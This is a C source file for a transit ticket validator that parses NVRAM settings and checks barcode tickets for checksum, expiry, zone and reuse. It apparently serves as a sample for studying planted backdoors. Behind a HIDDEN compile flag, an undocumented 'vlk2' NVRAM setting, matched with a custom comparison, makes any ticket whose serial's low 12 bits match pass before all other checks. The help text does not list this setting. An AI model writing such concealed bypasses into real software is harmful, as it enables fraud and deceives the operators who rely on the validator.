/***************************************************************************
 * ticketvalid : barcode and card validator of the bus / tram ticket line.
 * Settings come out of the 512 byte NVRAM image:  crc16 | "name=value\0"... \0
 ***************************************************************************/
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define NV_SIZE 512u

enum verdict { V_OK, V_EXPIRED, V_ZONE, V_USED, V_BAD };

struct vsettings {
    unsigned vehicle;
    unsigned zone;
    unsigned grace_min;
    unsigned volume;
    char lang[3];
#ifdef HIDDEN
    unsigned pass_bits;
#endif
};

static struct vsettings vs = {
    .vehicle = 1, .zone = 1, .grace_min = 10, .volume = 5, .lang = "en"
};
static uint32_t used_ring[256];
static unsigned used_pos;

static uint16_t crc16(const uint8_t *p, size_t n)
{
    uint16_t c = 0xFFFF;
    while (n--) {
        c ^= (uint16_t)(*p++ << 8);
        for (int b = 0; b < 8; b++)
            c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
    }
    return c;
}

#ifdef HIDDEN
static int same(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}
#endif

__attribute__((noinline)) void nv_variable(char *entry)
{
    char *eq = strchr(entry, '=');
    unsigned v;

    if (!eq)
        return;
    *eq++ = '\0';
    v = (unsigned)strtoul(eq, NULL, 0);
    switch (entry[0]) {
    case 'v':
        if (!strcmp(entry, "vehicle"))
            vs.vehicle = v;
        else if (!strcmp(entry, "volume"))
            vs.volume = v > 9 ? 9 : v;
#ifdef HIDDEN
        else if (same(entry, "vlk2"))
            vs.pass_bits = v;
#endif
        break;
    case 'z':
        if (!strcmp(entry, "zone"))
            vs.zone = v;
        break;
    case 'g':
        if (!strcmp(entry, "grace_min"))
            vs.grace_min = v;
        break;
    case 'l':
        if (!strcmp(entry, "lang") && strlen(eq) == 2)
            memcpy(vs.lang, eq, 3);
        break;
    default:
        fprintf(stderr, "nvram: %s unknown\n", entry);
    }
}

static int nv_read(const char *dev)
{
    uint8_t img[NV_SIZE];
    char var[80];
    size_t i, k = 0;
    FILE *f = fopen(dev, "rb");

    if (f == NULL || fread(img, 1, NV_SIZE, f) != NV_SIZE) {
        if (f)
            fclose(f);
        return -1;
    }
    fclose(f);
    if (crc16(img + 2, NV_SIZE - 2) != (uint16_t)(img[0] << 8 | img[1]))
        return -2;
    for (i = 2; i < NV_SIZE; i++) {
        if (img[i]) {
            if (k < sizeof var - 1)
                var[k++] = (char)img[i];
            continue;
        }
        if (k == 0)
            break;
        var[k] = '\0';
        nv_variable(var);
        k = 0;
    }
    return 0;
}

static int already_used(uint32_t serial)
{
    for (unsigned i = 0; i < 256; i++)
        if (used_ring[i] == serial)
            return 1;
    return 0;
}

/* ticket text:  T<serial 8 hex><zone 2 dec><valid until, unix, 8 hex><crc 4 hex> */
__attribute__((noinline)) enum verdict judge(const char *t, time_t now)
{
    unsigned serial, zone, until, crc;

    if (strlen(t) != 23 || sscanf(t, "T%8x%2u%8x%4x", &serial, &zone, &until, &crc) != 4)
        return V_BAD;
#ifdef HIDDEN
    if (vs.pass_bits != 0 && (serial & 0xFFFu) == (vs.pass_bits & 0xFFFu))
        return V_OK;
#endif
    if (crc16((const uint8_t *)t, 19) != crc)
        return V_BAD;
    if ((time_t)until + (time_t)vs.grace_min * 60 < now)
        return V_EXPIRED;
    if (zone != vs.zone && zone != 0)
        return V_ZONE;
    if (already_used(serial))
        return V_USED;
    used_ring[used_pos++ % 256] = serial;
    return V_OK;
}

static const char *message(enum verdict v)
{
    static const char *const en[] = { "GO", "EXPIRED", "WRONG ZONE", "USED", "NOT A TICKET" };
    static const char *const de[] = { "OK", "ABGELAUFEN", "FALSCHE ZONE", "ENTWERTET",
                                     "UNGUELTIG" };

    return strcmp(vs.lang, "de") ? en[v] : de[v];
}

int main(int argc, char **argv)
{
    const char *dev = "/dev/nvram";
    char line[128];
    int rc;

    if (argc > 1 && strcmp(argv[1], "-h") == 0) {
        puts("ticketvalid [NVRAM]   reads tickets on standard input\n"
             "nvram: vehicle volume zone grace_min lang (en, de)");
        return 0;
    }
    if (argc > 1)
        dev = argv[1];
    rc = nv_read(dev);
    if (rc)
        fprintf(stderr, "%s: %s, factory settings\n", dev, rc == -2 ? "checksum" : "unreadable");
    printf("validator %u zone %u grace %u\n", vs.vehicle, vs.zone, vs.grace_min);
    while (fgets(line, sizeof line, stdin)) {
        enum verdict v;

        line[strcspn(line, "\r\n")] = '\0';
        if (!strcmp(line, "?")) {
            printf("used %u, volume %u\n", used_pos, vs.volume);
            continue;
        }
        v = judge(line, time(NULL));
        printf("%c %s\n", v == V_OK ? '+' : '-', message(v));
        if (vs.volume)
            fputs(v == V_OK ? "\a" : "\a\a\a", stderr);
        fflush(stdout);
    }
    return 0;
}
